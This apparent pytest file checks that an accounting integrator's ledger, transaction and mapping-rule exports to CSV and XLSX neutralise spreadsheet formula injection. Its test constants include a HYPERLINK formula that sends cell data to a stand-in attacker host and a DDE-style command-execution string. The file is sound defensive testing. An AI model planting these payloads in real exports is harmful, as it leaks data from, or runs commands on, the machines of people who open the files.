"""Exports are inert (issue 14, item 4): no text from a vendor or a person becomes a live formula.

Probed: a product named ``=HYPERLINK(...)`` from a signed webhook came out raw in the ledger CSV
and as a formula cell in the XLSX, and a rule's match value in mapping-version exports. Every CSV
and XLSX now goes through :mod:`integrator.cells`; XLSX amounts are numbers with a currency format.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from integrator.cells import inert_text, restore_text
from integrator.choices import RuleKind
from integrator.models import LedgerAccount, MappingSet
from integrator.services import books, chart
from integrator.services.mappings import create_version
from tests.conftest import sale_event

FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")'
HOSTILE_NAMES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def _book_a_sale_named(post_event: Any, name: str, sale_id: str) -> None:
    event = sale_event(sale_id)
    event["data"]["lines"][0]["name"] = name
    event["data"]["number"] = name  # the document number reaches the ledger's description too
    assert post_event("till", event).status_code == 202


def _no_live_text(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            Decimal(cell)  # only numbers may start with a minus


def test_inert_text_and_its_inverse() -> None:
    for name in HOSTILE_NAMES:
        assert inert_text(name) == "'" + name and restore_text(inert_text(name)) == name
    assert inert_text("Kente") == "Kente" and restore_text("'quoted") == "'quoted"


def test_ledger_csv_and_xlsx_carry_no_formula(channel: Any, post_event: Any) -> None:
    for i, name in enumerate(HOSTILE_NAMES):
        _book_a_sale_named(post_event, name, f"F-{i}")
    connection = channel.ledger_connection

    rows = list(csv.reader(io.StringIO(books.export_csv(connection))))
    cells = [c for row in rows[1:] for c in row]
    _no_live_text(cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells), "the hostile name reached the export"

    book = load_workbook(io.BytesIO(books.export_xlsx(connection)))
    amounts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    _no_live_text([cell.value])
                if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    assert cell.number_format.startswith("#,##0.00"), cell.number_format
                    amounts += 1
    assert amounts > 0, "amounts are numbers, not text"


def test_list_exports_of_transactions_carry_no_formula(
    channel: Any, post_event: Any, admin_client: Any
) -> None:
    _book_a_sale_named(post_event, FORMULA, "F-list")
    listing = admin_client.get("/transactions/?export=csv")
    assert listing.status_code == 200
    text = b"".join(listing.streaming_content).decode("utf-8-sig")
    _no_live_text([c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row])


def test_mapping_rule_exports_are_inert_and_round_trip(channel: Any) -> None:
    connection = channel.ledger_connection
    mset = MappingSet.objects.get(channel=channel)
    revenue = LedgerAccount.objects.get(connection=connection, code="4000")
    rules = [
        {"kind": RuleKind.REVENUE, "match_field": "sku", "match_value": value, "account": revenue}
        for value in (FORMULA, "-", "+44-SHAWL")
    ]
    version = create_version(mset, effective_from=date(2030, 1, 1), rules=rules)

    exported = chart.export_rules(version, fmt="csv").decode()
    values = [row["match_value"] for row in csv.DictReader(io.StringIO(exported))]
    assert sorted(values) == sorted(["'" + FORMULA, "'-", "'+44-SHAWL"])

    sheet = load_workbook(io.BytesIO(chart.export_rules(version, fmt="xlsx"))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    back = chart.load_dataset(exported.encode(), "csv")
    assert sorted(back["match_value"]) == sorted([FORMULA, "-", "+44-SHAWL"])
